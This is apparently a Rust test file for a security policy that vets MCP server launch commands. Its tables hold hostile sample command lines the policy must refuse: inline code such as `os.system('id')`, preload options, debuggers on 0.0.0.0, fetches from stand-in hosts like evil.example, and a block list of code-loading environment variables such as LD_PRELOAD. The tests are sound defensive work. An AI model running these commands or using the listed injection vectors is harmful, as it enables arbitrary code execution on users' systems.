//! The command policy's tables: interpreters, runners, package allow-lists, environment
//! variables and the escape hatches, each line a command as an untrusted server would give it.

use super::*;

/// The rule refusing `command args` with `env` from the App under `settings`, if any.
fn command_rule(
    settings: &SecuritySettings,
    command: &str,
    args: &[&str],
    env: &[(&str, &str)],
) -> Option<&'static str> {
    let env: serde_json::Map<String, serde_json::Value> = env
        .iter()
        .map(|(key, value)| ((*key).to_owned(), serde_json::json!(value)))
        .collect();
    let json = serde_json::json!({"command": command, "args": args, "env": env});
    rule(settings, Origin::App, &json.to_string())
}

/// Runs a table of command lines against `settings`, printing every mismatch at once.
fn assert_rules(settings: &SecuritySettings, table: &[(&str, &[&str], Option<&str>)]) {
    let wrong: Vec<String> = table
        .iter()
        .filter_map(|(command, args, expected)| {
            let got = command_rule(settings, command, args, &[]);
            (got != *expected)
                .then(|| format!("{command} {args:?}: expected {expected:?}, got {got:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn interpreters_run_no_code_written_in_or_pointed_at_by_the_config() {
    let settings = SecuritySettings {
        extra_commands: vec!["deno".into(), "bun".into()],
        allowed_packages: Some(vec![AllowedPackage::parse("mcp-server-time").unwrap()]),
        ..SecuritySettings::default()
    };
    assert_rules(
        &settings,
        &[
            // node: inline code, preloaded code, a debugger, a script.
            (
                "node",
                &["-e", "require('child_process').exec('id')"],
                Some("arg-eval"),
            ),
            ("node", &["--eval=process.exit()"], Some("arg-eval")),
            ("node", &["-p", "1"], Some("arg-eval")),
            ("node", &["--print", "1"], Some("arg-eval")),
            ("node", &["-pe", "1"], Some("arg-eval")),
            ("node", &["-i"], Some("arg-eval")),
            ("node", &["--run", "build"], Some("arg-eval")),
            ("node", &["-"], Some("arg-eval")),
            (
                "node",
                &["-r", "/tmp/x.js", "server.js"],
                Some("arg-preload"),
            ),
            ("node", &["--require=/tmp/x.js"], Some("arg-preload")),
            (
                "node",
                &["--import", "data:text/javascript,1"],
                Some("arg-preload"),
            ),
            ("node", &["--loader", "./l.mjs"], Some("arg-preload")),
            (
                "node",
                &["--experimental-loader=./l.mjs"],
                Some("arg-preload"),
            ),
            ("node", &["--env-file=.env"], Some("arg-preload")),
            (
                "node",
                &["--openssl-config=/tmp/engine.cnf"],
                Some("arg-preload"),
            ),
            ("node", &["--inspect=0.0.0.0:9229"], Some("arg-debugger")),
            ("node", &["--inspect-brk"], Some("arg-debugger")),
            ("node", &["inspect", "x.js"], Some("arg-debugger")),
            ("node", &["./x.js"], Some("script-path")),
            ("node", &["/tmp/x.js", "stdio"], Some("script-path")),
            ("node", &["--", "x.js"], Some("script-path")),
            ("node", &["--no-warnings", "x.js"], Some("script-path")),
            ("node", &["--frozen-intrinsics"], Some("arg-option")),
            ("node", &["--version"], None),
            ("node", &[], None),
            // python: -c, -i, stdin, scripts, -m of an unlisted module, importing -W and -X.
            (
                "python3",
                &["-c", "import os; os.system('id')"],
                Some("arg-eval"),
            ),
            ("python3", &["-uc", "print(1)"], Some("arg-eval")),
            ("python", &["-i"], Some("arg-eval")),
            ("python3", &["-"], Some("arg-eval")),
            ("python3", &["/tmp/x.py"], Some("script-path")),
            ("python", &["-u", "server.py"], Some("script-path")),
            (
                "python3",
                &["-m", "pip", "install", "x"],
                Some("package-not-allowed"),
            ),
            ("python3", &["-mhttp.server"], Some("package-not-allowed")),
            (
                "python3",
                &["-W", "ignore::evil.Category"],
                Some("arg-preload"),
            ),
            (
                "python3",
                &["-X", "pycache_prefix=/tmp/p", "-m", "mcp_server_time"],
                Some("arg-option"),
            ),
            (
                "python3",
                &["--check-hash-based-pycs", "never"],
                Some("arg-option"),
            ),
            (
                "python3",
                &["-m", "mcp_server_time", "--local-timezone", "UTC"],
                None,
            ),
            (
                "python3",
                &["-uB", "-W", "ignore", "-X", "utf8", "-m", "mcp-server-time"],
                None,
            ),
            // deno and bun (when an operator allows them).
            ("deno", &["eval", "Deno.exit()"], Some("arg-eval")),
            ("deno", &["repl"], Some("arg-eval")),
            ("deno", &["task", "start"], Some("arg-subcommand")),
            (
                "deno",
                &["run", "-A", "--preload", "x.ts", "npm:pkg"],
                Some("arg-preload"),
            ),
            (
                "deno",
                &["run", "--inspect", "npm:pkg"],
                Some("arg-debugger"),
            ),
            (
                "deno",
                &["run", "-A", "https://evil.example/x.ts"],
                Some("package-source"),
            ),
            ("deno", &["run", "-A", "./x.ts"], Some("script-path")),
            (
                "deno",
                &["run", "-A", "npm:unlisted"],
                Some("package-not-allowed"),
            ),
            (
                "deno",
                &["run", "--allow-net=example.com", "npm:mcp-server-time"],
                None,
            ),
            ("bun", &["-e", "1"], Some("arg-eval")),
            ("bun", &["--preload", "./x.ts", "x"], Some("arg-preload")),
            ("bun", &["run", "start"], Some("arg-subcommand")),
            ("bun", &["./x.ts"], Some("script-path")),
            ("bun", &["x", "mcp-server-time"], None),
        ],
    );
}

#[test]
fn runners_run_registry_packages_by_name_only() {
    let settings = SecuritySettings {
        extra_commands: vec!["pnpx".into(), "bunx".into()],
        ..SecuritySettings::default()
    };
    assert_rules(
        &settings,
        &[
            // Plain registry names, with versions, ranges and harmless options: allowed.
            (
                "npx",
                &["-y", "@modelcontextprotocol/server-filesystem", "/srv"],
                None,
            ),
            (
                "npx",
                &[
                    "--yes",
                    "mcp-remote@0.1.2",
                    "-e",
                    "anything: the package's own args",
                ],
                None,
            ),
            ("npx", &["-y", "pkg@^1.2.0"], None),
            ("npx", &["--", "pkg", "--registry=x"], None),
            ("pnpm", &["dlx", "@scope/pkg@latest"], None),
            ("pnpx", &["pkg"], None),
            ("bunx", &["pkg"], None),
            ("uvx", &["mcp-server-time"], None),
            (
                "uvx",
                &["mcp-server-time@2026.10.19", "--local-timezone=UTC"],
                None,
            ),
            (
                "uvx",
                &[
                    "--python",
                    "3.12",
                    "--from",
                    "mcp-server-fetch==1.0",
                    "mcp-server-fetch",
                ],
                None,
            ),
            (
                "uvx",
                &["--with", "requests,httpx>=0.27", "pkg[extra]>=1,<2"],
                None,
            ),
            ("uv", &["tool", "run", "mcp-server-time"], None),
            ("uv", &["-q", "tool", "uvx", "mcp-server-time"], None),
            ("uvenv", &["run", "mcp-server-time"], None),
            (
                "dnx",
                &["-y", "Contoso.Mcp.Server@1.0.0", "--", "--stdio"],
                None,
            ),
            (
                "dnx",
                &["Contoso.Mcp.Server", "--version", "1.0.0", "--yes"],
                None,
            ),
            // Code in the arguments.
            ("npx", &["-c", "sh -c id"], Some("arg-eval")),
            ("npx", &["--call=id"], Some("arg-eval")),
            ("pnpm", &["dlx", "--shell-mode", "pkg"], Some("arg-eval")),
            // Options that change where code comes from, or that are not known.
            (
                "npx",
                &["--registry=https://evil.example", "pkg"],
                Some("arg-option"),
            ),
            (
                "npx",
                &["--userconfig", "/tmp/npmrc", "pkg"],
                Some("arg-option"),
            ),
            (
                "npx",
                &["--node-options=--require=/tmp/x.js", "pkg"],
                Some("arg-option"),
            ),
            ("npx", &["-p", "pkg", "sh", "-c", "id"], Some("arg-option")),
            ("npx", &["--package=pkg", "pkg"], Some("arg-option")),
            (
                "uvx",
                &["--index-url", "https://evil.example/simple", "pkg"],
                Some("arg-option"),
            ),
            (
                "uvx",
                &["--with-requirements", "r.txt", "pkg"],
                Some("arg-option"),
            ),
            ("uvx", &["--with-editable", ".", "pkg"], Some("arg-option")),
            (
                "uvx",
                &["--python", "/tmp/python", "pkg"],
                Some("arg-option"),
            ),
            (
                "uvx",
                &["--directory", "/tmp/project", "pkg"],
                Some("arg-option"),
            ),
            (
                "dnx",
                &["pkg", "--source", "https://evil.example/v3/index.json"],
                Some("arg-option"),
            ),
            (
                "dnx",
                &["--add-source=/tmp/feed", "pkg"],
                Some("arg-option"),
            ),
            // Subcommands that run local scripts and bins.
            ("pnpm", &["exec", "sh", "-c", "id"], Some("arg-subcommand")),
            ("pnpm", &["start"], Some("arg-subcommand")),
            ("uv", &["run", "server.py"], Some("arg-subcommand")),
            (
                "uv",
                &["--directory", "/srv/mcp", "run", "server.py"],
                Some("arg-option"),
            ),
            ("uv", &["tool", "install", "pkg"], Some("arg-subcommand")),
            ("uvenv", &["install", "pkg"], Some("arg-subcommand")),
            // Package specs that are URLs, git repositories, local paths or archives.
            ("npx", &["-y", "github:user/repo"], Some("package-source")),
            ("npx", &["user/repo"], Some("package-source")),
            (
                "npx",
                &["git+https://example.com/x.git"],
                Some("package-source"),
            ),
            (
                "npx",
                &["https://example.com/x.tgz"],
                Some("package-source"),
            ),
            ("npx", &["./local-dir"], Some("package-source")),
            ("npx", &["/tmp/pkg"], Some("package-source")),
            ("npx", &["pkg.tgz"], Some("package-source")),
            ("npx", &["pkg@npm:other"], Some("package-source")),
            ("npx", &["pkg@file:../x"], Some("package-source")),
            ("npx", &["pkg@github:user/repo"], Some("package-source")),
            (
                "uvx",
                &["git+https://github.com/x/y"],
                Some("package-source"),
            ),
            (
                "uvx",
                &["pkg @ https://example.com/x.whl"],
                Some("package-source"),
            ),
            (
                "uvx",
                &["./dist/pkg-1.0-py3-none-any.whl"],
                Some("package-source"),
            ),
            (
                "uvx",
                &["--from", "git+https://github.com/x/y", "y"],
                Some("package-source"),
            ),
            (
                "uvx",
                &["--with", "/tmp/evil", "pkg"],
                Some("package-source"),
            ),
            ("uvx", &["--from", "pkg", "./bin/x"], Some("script-path")),
            ("dnx", &["./pkg.nupkg"], Some("package-source")),
            // A runner whose package is an interpreter or a runner: that program's rules follow.
            ("npx", &["-y", "node", "-e", "1"], Some("arg-eval")),
            ("npx", &["node@20", "./x.js"], Some("script-path")),
            ("npx", &["npm", "exec", "-c", "id"], Some("arg-eval")),
            ("npx", &["npm", "install"], Some("arg-subcommand")),
            ("npx", &["yarn", "run", "x"], Some("arg-subcommand")),
            (
                "pnpm",
                &["dlx", "npx", "--registry=https://evil.example", "pkg"],
                Some("arg-option"),
            ),
            ("uvx", &["python", "-c", "1"], Some("arg-eval")),
            ("uvx", &["python@3.12", "/tmp/x.py"], Some("script-path")),
            (
                "uvx",
                &["--from", "requests", "python3", "-c", "1"],
                Some("arg-eval"),
            ),
            ("uvx", &["uv", "run", "x.py"], Some("arg-subcommand")),
            ("npx", &["npm", "exec", "pkg"], None),
            ("uvx", &["--with", "requests", "python", "-V"], None),
        ],
    );
}

#[test]
fn an_allow_list_of_packages_limits_runners_to_its_names_and_versions() {
    let settings = SecuritySettings {
        allowed_packages: Some(
            [
                "@modelcontextprotocol/server-filesystem",
                "mcp-server-time@2026.10.19",
                "Contoso.Mcp",
            ]
            .iter()
            .map(|entry| AllowedPackage::parse(entry).unwrap())
            .collect(),
        ),
        ..SecuritySettings::default()
    };
    assert_rules(
        &settings,
        &[
            (
                "npx",
                &["-y", "@modelcontextprotocol/server-filesystem", "/srv"],
                None,
            ),
            (
                "npx",
                &["-y", "@modelcontextprotocol/server-filesystem@1.2.3"],
                None,
            ),
            (
                "npx",
                &["-y", "@modelcontextprotocol/server-everything"],
                Some("package-not-allowed"),
            ),
            (
                "npx",
                &["-y", "python3", "-c", "id"],
                Some("package-not-allowed"),
            ),
            ("uvx", &["mcp-server-time@2026.10.19"], None),
            ("uvx", &["mcp_server_time==2026.10.19"], None),
            ("uvx", &["mcp-server-time"], Some("package-not-allowed")),
            (
                "uvx",
                &["mcp-server-time@latest"],
                Some("package-not-allowed"),
            ),
            (
                "uvx",
                &["mcp-server-time@2026.10.20"],
                Some("package-not-allowed"),
            ),
            (
                "uvx",
                &["--with", "evil", "mcp-server-time@2026.10.19"],
                Some("package-not-allowed"),
            ),
            ("python3", &["-m", "mcp_server_time"], None),
            ("python3", &["-m", "pip"], Some("package-not-allowed")),
            ("dnx", &["contoso.mcp@2.0.0"], None),
        ],
    );
}

#[test]
fn code_loading_environment_variables_are_refused_and_the_rest_pass() {
    let settings = SecuritySettings::default();
    let refused = [
        "NODE_OPTIONS",
        "NODE_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "DYLD_INSERT_LIBRARIES",
        "PERL5OPT",
        "RUBYOPT",
        "BASH_ENV",
        "ENV",
        "PATH",
        "npm_config_registry",
        "NPM_CONFIG_SCRIPT_SHELL",
        "UV_INDEX_URL",
        "UV_PYTHON",
        "PIP_INDEX_URL",
        "GIT_SSH_COMMAND",
        "JAVA_TOOL_OPTIONS",
        "DOTNET_STARTUP_HOOKS",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "GCONV_PATH",
    ];
    let wrong: Vec<_> = refused
        .iter()
        .filter(|key| {
            command_rule(&settings, "npx", &["-y", "pkg"], &[(key, "x")])
                != Some("env-code-loading")
        })
        .collect();
    assert!(wrong.is_empty(), "not refused: {wrong:?}");
    for key in [
        "NODE_ENV",
        "PYTHONUNBUFFERED",
        "PYTHONIOENCODING",
        "TZ",
        "API_KEY",
        "HTTPS_PROXY",
    ] {
        assert_eq!(
            command_rule(&settings, "npx", &["-y", "pkg"], &[(key, "x")]),
            None,
            "{key}"
        );
    }
    // The generic rules apply to any command, the operator's own too.
    let extra = SecuritySettings {
        extra_commands: vec!["my-server".into()],
        ..SecuritySettings::default()
    };
    assert_eq!(
        command_rule(
            &extra,
            "my-server",
            &["-e", "x"],
            &[("LD_PRELOAD", "/tmp/x.so")]
        ),
        Some("env-code-loading")
    );
    assert_eq!(command_rule(&extra, "my-server", &["-e", "x"], &[]), None);
}

#[test]
fn the_escape_hatches_let_exactly_what_they_name_through() {
    let settings = SecuritySettings {
        allowed_args: vec!["--inspect".into(), "/opt/mcp/server.js".into(), "-r".into()],
        allowed_env: vec!["NODE_OPTIONS".into()],
        ..SecuritySettings::default()
    };
    let node = |args: &[&str], env: &[(&str, &str)]| command_rule(&settings, "node", args, env);
    assert_eq!(
        node(&["--inspect=127.0.0.1:9229", "/opt/mcp/server.js"], &[]),
        None
    );
    assert_eq!(
        node(&["-r", "dotenv/config", "/opt/mcp/server.js"], &[]),
        None
    );
    assert_eq!(node(&["/opt/mcp/other.js"], &[]), Some("script-path"));
    let sourced = SecuritySettings {
        allowed_args: vec!["github:me/server".into()],
        ..SecuritySettings::default()
    };
    assert_eq!(
        command_rule(&sourced, "npx", &["-y", "github:me/server"], &[]),
        None
    );
    assert_eq!(
        command_rule(&sourced, "npx", &["-y", "github:me/other"], &[]),
        Some("package-source")
    );
    assert_eq!(node(&["-e", "1"], &[]), Some("arg-eval"));
    assert_eq!(
        node(
            &["/opt/mcp/server.js"],
            &[("NODE_OPTIONS", "--max-old-space-size=4096")]
        ),
        None
    );
    assert_eq!(
        node(&["/opt/mcp/server.js"], &[("LD_PRELOAD", "x")]),
        Some("env-code-loading")
    );
    // Without --strict-commands, the local file's servers are not read at all.
    let trusted = SecuritySettings::default();
    let local = |json: &str| rule(&trusted, Origin::LocalFile, json);
    assert_eq!(
        local(r#"{"command": "node", "args": ["-e", "1"], "env": {"NODE_OPTIONS": "-r x"}}"#),
        None
    );
    let strict = SecuritySettings {
        strict_commands: true,
        ..SecuritySettings::default()
    };
    assert_eq!(
        rule(
            &strict,
            Origin::LocalFile,
            r#"{"command": "node", "args": ["-e", "1"]}"#
        ),
        Some("arg-eval")
    );
}

#[test]
fn refusals_name_the_rule_the_argument_and_the_setting_that_lets_it_through() {
    let settings = SecuritySettings::default();
    let refusal = server(Origin::App, r#"{"command": "node", "args": ["-e", "1"]}"#)
        .check(&settings)
        .unwrap_err()
        .to_string();
    assert_eq!(
        refusal,
        "refused by the security policy (rule arg-eval): node \"-e\": runs code written in the \
         configuration (security.allowedArgs lets an argument through)"
    );
    let refusal = server(
        Origin::App,
        r#"{"command": "npx", "args": ["-y", "pkg"], "env": {"LD_PRELOAD": "/x.so"}}"#,
    )
    .check(&settings)
    .unwrap_err()
    .to_string();
    assert!(refusal.contains("rule env-code-loading"), "{refusal}");
    assert!(refusal.contains("security.allowedEnv"), "{refusal}");
}

#[test]
fn package_allow_list_entries_parse_and_name_their_field() {
    let parsed = SecuritySettings::parse(Some(&serde_json::json!({
        "allowedPackages": ["@scope/name", "mcp-server-time@2026.10.19"],
        "allowedArgs": ["--inspect"], "allowedEnv": ["NODE_OPTIONS"]
    })))
    .unwrap();
    assert_eq!(
        parsed.allowed_packages.unwrap()[1],
        AllowedPackage {
            name: "mcp-server-time".into(),
            version: Some("2026.10.19".into())
        }
    );
    assert_eq!(parsed.allowed_args, ["--inspect"]);
    assert_eq!(parsed.allowed_env, ["NODE_OPTIONS"]);
    for (bad, field) in [
        (
            serde_json::json!({"allowedPackages": ["https://x/y.tgz"]}),
            "security.allowedPackages[0]",
        ),
        (
            serde_json::json!({"allowedPackages": "pkg"}),
            "security.allowedPackages",
        ),
        (
            serde_json::json!({"allowedArgs": [""]}),
            "security.allowedArgs[0]",
        ),
        (
            serde_json::json!({"allowedEnv": [1]}),
            "security.allowedEnv[0]",
        ),
    ] {
        assert_eq!(
            SecuritySettings::parse(Some(&bad)).unwrap_err().0,
            field,
            "{bad}"
        );
    }
}
